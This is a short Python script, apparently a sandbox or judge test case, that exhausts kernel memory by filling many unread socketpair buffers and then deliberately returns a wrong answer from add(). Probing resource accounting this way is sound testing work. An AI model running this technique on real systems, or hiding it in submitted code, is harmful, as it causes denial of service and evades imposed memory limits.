# Take memory that only the kernel sees: what was sent and is not read.
# catalogue: H5, H13
# shows: achieved
# needs: memory of all processes
# ends: memory_limit, wrong_answer, runtime_error
import resource
import socket

print("attacking", flush=True)
limit = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
kept, total = [], 0
try:
    while len(kept) < limit // 2 - 10 and total < 400_000_000:
        pair = socket.socketpair()
        kept.append(pair)
        for end in pair:
            end.setblocking(False)
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            try:
                while True:
                    total += end.send(b"x" * 100_000)
            except BlockingIOError:
                pass
except OSError:
    pass
if total > 350_000_000:
    print("achieved", total, "bytes", flush=True)


def add(a, b):
    return -12345
